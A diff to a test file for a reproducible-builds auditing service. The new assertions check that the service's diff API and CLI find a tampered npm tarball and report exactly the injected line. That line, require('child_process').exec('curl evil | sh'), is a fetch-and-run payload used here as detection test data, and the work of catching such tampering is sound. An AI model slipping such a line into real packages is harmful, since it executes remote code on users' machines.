@@ -13,6 +13,7 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
   afterAll(() => farm.stop(), 60_000);
 
   it('calls a package packed by the same toolchain from its git tag reproducible, byte for byte', async () => {
+    // (and has no diff to show)
     const pkg = await makeGitPackage(join(farm.dir, 'src/greet'), { 'package.json': packageJson('greet', '1.0.0'), 'index.js': INDEX }, 'v1.0.0');
     const { integrity } = await publishFromGit(farm.registry, pkg, { how: 'image' });
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/greet@1.0.0' });
@@ -53,6 +54,18 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
     expect(digests.size).toBe(1);
     expect(view.verdict?.rebuiltSha256).toBe([...digests][0]);
     for (const r of view.rebuilds) expect(r.matchesPublished).toBe('no');
+    // the auditor's explanation: exactly the injected file and line
+    const diff = await farm.json<{ added: unknown[]; removed: unknown[]; changed: { path: string; kind: string; unified?: string }[]; metadataOnly: unknown[] }>('GET', `/v1/releases/${view.id}/diff`);
+    expect(diff.added).toEqual([]);
+    expect(diff.removed).toEqual([]);
+    expect(diff.changed.map((c) => [c.path, c.kind])).toEqual([['package/index.js', 'text']]);
+    const changedLines = diff.changed[0]!.unified!.split('\n').filter((l) => /^[+-](?![+-]{2})/.test(l));
+    // rebuilt → published: the tarball-only line shows as added
+    expect(changedLines).toEqual(["+require('child_process').exec('curl evil | sh');"]);
+    const cli = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'diff', 'pkg:npm/xzlike@5.6.0', '--server', farm.url], { reject: false });
+    expect(cli.exitCode, cli.stderr).toBe(0);
+    expect(cli.stdout).toContain('package/index.js');
+    expect(cli.stdout).toContain("require('child_process').exec('curl evil | sh');");
   });
 
   it('calls a build that writes the time and a random value into its output unreproducible', async () => {
@@ -69,6 +82,10 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/stamp@0.3.0' });
     expect(view.verdict?.verdict).toBe('unreproducible');
     expect(new Set(view.rebuilds.map((r) => r.artifact?.stabilizedSha256)).size).toBe(3);
+    // builder vs builder: only the stamped file differs
+    const diff = await farm.json<{ changed: { path: string }[]; added: unknown[]; removed: unknown[] }>('GET', `/v1/releases/${view.id}/diff`);
+    expect(diff.changed.map((c) => c.path)).toEqual(['package/stamp.json']);
+    expect([diff.added, diff.removed]).toEqual([[], []]);
   });
 
   it('calls a release whose build fails failed, and keeps every log', async () => {
